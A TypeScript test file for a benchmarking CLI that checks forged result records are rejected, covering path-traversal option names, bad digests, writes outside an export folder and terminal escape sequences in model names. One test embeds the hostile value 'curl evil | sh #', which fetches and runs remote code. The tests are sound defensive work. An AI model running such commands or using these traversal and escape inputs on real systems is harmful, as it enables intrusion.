import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { bodyFile } from '../../../cli/bundle/contents.js';
import { EXPORTERS } from '../../../cli/output/index.js';
import { printData } from '../../../cli/output/print.js';
import { intoFolder } from '../../../cli/report/files/index.js';
import { mlflow } from '../../../cli/report/files/mlflow.js';
import { recordOf } from '../../../cli/report/run-folder.js';
import { fetchRun } from '../../../cli/results/fetched.js';
import type { ResultRecord } from '../../../core/result/result.js';
import { RUNNERS } from '../../../core/runners/index.js';
import { WORKLOADS } from '../../../core/workloads/index.js';
import type { ControlConnection } from '../../../proto/client.js';
import { buildReport } from '../../../report/build.js';
import { experimentOf } from '../../support/experiments.js';
import { sharedFolder } from '../../support/folder.js';
import { completeTrial } from '../../support/records.js';

const folder = sharedFolder();
const ESCAPE = '\u001b';
/** All but ends of lines. */
const UNSEEN = /(?!\n)[\p{Cc}\u202e]/u;
const record = completeTrial({});

/** A record with another option of its runner. */
const withOption = (name: string, value = 'x'): ResultRecord => {
  const { experiment } = record;
  const { runner } = experiment;
  return {
    ...record,
    experiment: { ...experiment, runner: { ...runner, options: { ...runner.options, [name]: value } } },
  };
};
const reportOf = (...records: ResultRecord[]) =>
  buildReport(records, { sweepName: 'forged', objectives: [] });

describe('names in a record', () => {
  test.each([
    '../x',
    'a/b',
    '',
    ' a',
    'a b',
    '1a',
    '-a',
    'a.b',
    'a\n',
    'constructor',
    'toString',
    'x'.repeat(65),
  ])('an option %j is none', (name) => {
    expect(recordOf(JSON.stringify(withOption(name)))).toMatch(
      /runner\.options.*: names of options have at most 64 letters/s,
    );
  });

  test('options of every runner and workload are', () => {
    const names = [...RUNNERS, ...WORKLOADS].flatMap(({ options }) => Object.keys(options.shape));
    for (const name of ['x'.repeat(64), ...names])
      expect(recordOf(JSON.stringify(withOption(name))), name).toMatchObject({ trialId: record.trialId });
  });

  test.each(['sha256:', 'sha256:ab', `sha256:${'g'.repeat(64)}`, `sha256:${'0'.repeat(65)}`, 'sha256:../..'])(
    'a digest %j is none',
    (digest) => {
      const { experiment } = record;
      const forged = { ...record, experiment: { ...experiment, model: { ...experiment.model, digest } } };
      expect(recordOf(JSON.stringify(forged))).toMatch(/experiment\.model\.digest: is no digest/);
    },
  );
});

describe('an export into a folder', () => {
  test.each(['../x', 'a/../x', '/x', 'a//x', './x', 'a/.x', 'a\\..\\x', 'a\nb', ''])(
    'writes no file %j',
    (name) => {
      const place = join(folder, 'place');
      const write = () => intoFolder(place, '', (put) => put(name, 'content'));
      expect(write).toThrow(/is not written into .*the results name it/);
      expect(readdirSync(place)).toEqual([]);
    },
  );

  test('of MLflow refuses an axis that leads out of it, even if the door of records let it in', async () => {
    const store = join(folder, 'out', 'mlruns');
    const forged = reportOf(withOption('../../../../escaped', 'curl evil | sh #'));
    await expect(mlflow.write(forged, store)).rejects.toThrow(/the results name it/);
    expect(readdirSync(folder, { recursive: true }).join(' ')).not.toContain('escaped');
  });
});

test('a file of answers is found by its whole digest alone', () => {
  const place = join(folder, 'calls');
  mkdirSync(place);
  const hex = 'ab'.repeat(32);
  writeFileSync(join(place, `${hex}.jsonl`), '');
  expect(bodyFile([place], `sha256:${hex}`)).toBe(join(place, `${hex}.jsonl`));
  expect(bodyFile([place], `sha256:${'cd'.repeat(32)}`)).toBeNull();
  for (const digest of ['sha256:', 'sha256:ab', '', '../x'])
    expect(() => bodyFile([place], digest)).toThrow(/is no digest/);
});

test('a record that a node spoiled is left out, and the rest of the sweep is there', async () => {
  const said = vi.spyOn(process.stderr, 'write').mockReturnValue(true);
  const place = join(folder, 'fetched');
  const control = {
    getSweep: async () => ({ document: 'a sweep' }),
    streamResults: async function* () {
      for (const one of [record, withOption('../x'), { ...record, trialId: 't.2' }])
        yield { recordJson: JSON.stringify(one), moreJson: [] };
    },
  };
  const fetched = await fetchRun(control as unknown as ControlConnection, 's1', place);
  expect(fetched).toEqual({ results: 2, files: 0 });
  expect(said.mock.calls.join('')).toMatch(
    /one record is left out: not a result record: .*names of options have/,
  );
  expect(existsSync(join(place, 'results.jsonl'))).toBe(true);
});

describe('what moves a cursor', () => {
  const { isTTY } = process.stdout;
  afterEach(() => {
    process.stdout.isTTY = isTTY;
    vi.restoreAllMocks();
  });
  const shown = (text: string, terminal: boolean): string => {
    const write = vi.spyOn(process.stdout, 'write').mockReturnValue(true);
    process.stdout.isTTY = terminal;
    printData(text);
    const written = write.mock.calls.map(([one]) => String(one)).join('');
    write.mockRestore();
    return written;
  };
  const name = `chat${ESCAPE}[2K${ESCAPE}]0;title\u0007\u009b8m\u202e`;
  const experiment = experimentOf({ quantization: 'q8_0' });
  const rows = reportOf(record, {
    ...completeTrial({ experiment: { ...experiment, model: { ...experiment.model, name } }, position: 1 }),
  });

  test.each(['csv', 'json', 'jsonl'] as const)(
    '%s: a terminal gets none of it, a file every byte',
    (format) => {
      const { text } = EXPORTERS[format](rows);
      expect(text).toContain('\u009b8m');
      expect(shown(text, false)).toBe(text);
      expect(shown(text, true)).not.toMatch(UNSEEN);
    },
  );

  test('Markdown has none of it anywhere, for it is shown by many programs', () => {
    const { text } = EXPORTERS.md(rows);
    expect(text).toContain('chat');
    expect(text).not.toMatch(UNSEEN);
  });
});
